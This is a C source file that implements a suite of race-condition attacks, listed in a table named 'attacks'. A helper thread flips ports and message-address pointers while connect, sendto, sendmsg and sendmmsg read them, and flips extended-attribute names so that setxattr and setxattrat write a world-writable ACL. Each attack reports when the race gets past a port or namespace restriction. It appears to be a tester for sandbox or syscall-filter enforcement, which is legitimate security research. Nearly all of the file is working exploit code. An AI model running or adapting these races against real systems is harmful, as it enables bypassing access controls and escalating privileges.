/*
 * A port that may be sent to becomes one that may not, in the address that a call is given; and the name of an extended
 * attribute one that takes another right. flip.h has the arguments.
 */
#include "flip.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <sys/xattr.h>

static uint16_t
	ports[2]; /* ARG 2: the permitted one; ARG 3: the other, in the same order as it stands in the address */

static void flip_port(int side, int attacker)
{
	volatile unsigned char *port = (volatile unsigned char *)page + 2;

	if (attacker)
		for (int i = 0; i < 2; i++)
			port[i] = ((unsigned char *)&ports[side])[i];
	else
		memcpy((char *)port, &ports[side], 2);
}

/* What the run before this one has sent there. */
static void empty(void)
{
	char text[8];

	while (recv(0, text, sizeof(text), MSG_DONTWAIT) >= 0)
		;
}

/* Half-way, a port is a third one, which may be sent to as little. */
static struct sockaddr_in *flipping_port(void)
{
	empty();
	make_page();
	struct sockaddr_in *a = (struct sockaddr_in *)page;
	for (int side = 0; side < 2; side++)
		ports[side] = htons((uint16_t)atoi(argument(2 + side)));
	a->sin_family = AF_INET;
	a->sin_port = ports[0];
	a->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	begin(flip_port);
	return a;
}

static void race_connect_as(int type)
{
	const struct sockaddr_in *a = flipping_port();

	for (; done < rounds; done++) {
		int fd = need(socket(AF_INET, type | SOCK_CLOEXEC, 0), "socket");
		struct sockaddr_in peer;
		socklen_t len = sizeof(peer);
		if (!connect(fd, (const void *)a, sizeof(*a)) && !getpeername(fd, (void *)&peer, &len) &&
		    peer.sin_port != ports[0])
			FOUND("after %ld rounds: connected to port %d", done, ntohs(peer.sin_port));
		close(fd);
	}
	none();
}

static void race_connect(void)
{
	race_connect_as(SOCK_STREAM);
}

static void race_datagram_connect(void)
{
	race_connect_as(SOCK_DGRAM);
}

/* Descriptor 0 is the socket of who is outside, so that it can be seen what arrives there. */
static void judge_arrival(void)
{
	char text[8];

	if (recv(0, text, sizeof(text), MSG_DONTWAIT) >= 0)
		FOUND("after %ld rounds: a datagram arrived outside", done);
}

static void race_sendto(void)
{
	const struct sockaddr_in *a = flipping_port();
	int fd = need(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), "socket");

	for (; done < rounds; done++) {
		(void)sendto(fd, "x", 1, MSG_DONTWAIT, (const void *)a, sizeof(*a));
		judge_arrival();
	}
	none();
}

static void race_messages(bool several)
{
	struct sockaddr_in *a = flipping_port();
	int fd = need(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), "socket");
	struct iovec iov = {(void *)"x", 1};
	struct mmsghdr m[2] = {
		{.msg_hdr = {.msg_name = a, .msg_namelen = sizeof(*a), .msg_iov = &iov, .msg_iovlen = 1}}};

	m[1] = m[0];
	for (; done < rounds; done++) {
		if (several)
			(void)sendmmsg(fd, m, 2, MSG_DONTWAIT);
		else
			(void)sendmsg(fd, &m[0].msg_hdr, MSG_DONTWAIT);
		judge_arrival();
	}
	none();
}

static void race_sendmsg(void)
{
	race_messages(false);
}

static void race_sendmmsg(void)
{
	race_messages(true);
}

/* What the vector of sendmmsg says of its second message changes: between two addresses that are not changed themselves. */
static struct sockaddr_in sides[2];

static void flip_vector(int side, int attacker)
{
	struct mmsghdr *m = (struct mmsghdr *)page;

	*(void *volatile *)&m[attacker].msg_hdr.msg_name = &sides[side];
}

static void race_vector(void)
{
	struct iovec iov = {(void *)"x", 1};

	empty();
	make_page();
	struct mmsghdr *m = (struct mmsghdr *)page;
	for (int side = 0; side < 2; side++) {
		sides[side].sin_family = AF_INET;
		sides[side].sin_port = htons((uint16_t)atoi(argument(2 + side)));
		sides[side].sin_addr.s_addr = htonl(INADDR_LOOPBACK);
		m[side].msg_hdr = (struct msghdr){
			.msg_name = &sides[0], .msg_namelen = sizeof(sides[0]), .msg_iov = &iov, .msg_iovlen = 1};
	}
	int fd = need(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), "socket");
	begin(flip_vector);
	for (; done < rounds; done++) {
		(void)sendmmsg(fd, m, 2, MSG_DONTWAIT);
		judge_arrival();
	}
	none();
}

/* An access control list under its name, and under another one, which is of no meaning. ARG 2: the file. */
static const uint16_t everybodys[] = {2, 0, 1, 7, 0xffff, 0xffff, 4, 7, 0xffff, 0xffff, 0x20, 7, 0xffff, 0xffff};

/* struct xattr_args of linux/xattr.h (Linux 6.13) */
static const struct {
	uint64_t value;
	uint32_t size, flags;
} at_args = {(uintptr_t)everybodys, sizeof(everybodys), 0};

static void race_attribute(bool at)
{
	const char *path = argument(2);
	struct stat st;

	names[0] = "user.x";
	names[1] = "system";
	make_page();
	changing = page;
	strcpy(page, "user.x.posix_acl_access");
	begin(flip_name);
	for (; done < rounds; done++) {
		if (at)
			syscall(463 /* setxattrat */, AT_FDCWD, path, 0, page, &at_args, sizeof(at_args));
		else
			(void)setxattr(path, page, everybodys, sizeof(everybodys), 0);
		if (!stat(path, &st) && (st.st_mode & 0777) == 0777)
			FOUND("after %ld rounds: mode %o", done, st.st_mode & 0777u);
	}
	none();
}

static void race_setxattr(void)
{
	race_attribute(false);
}

static void race_setxattrat(void)
{
	race_attribute(true);
}

const struct attack attacks[] = {
	{"connect", race_connect},
	{"datagram-connect", race_datagram_connect},
	{"sendto", race_sendto},
	{"sendmsg", race_sendmsg},
	{"sendmmsg", race_sendmmsg},
	{"vector", race_vector},
	{"setxattr", race_setxattr},
	{"setxattrat", race_setxattrat},
	{0},
};
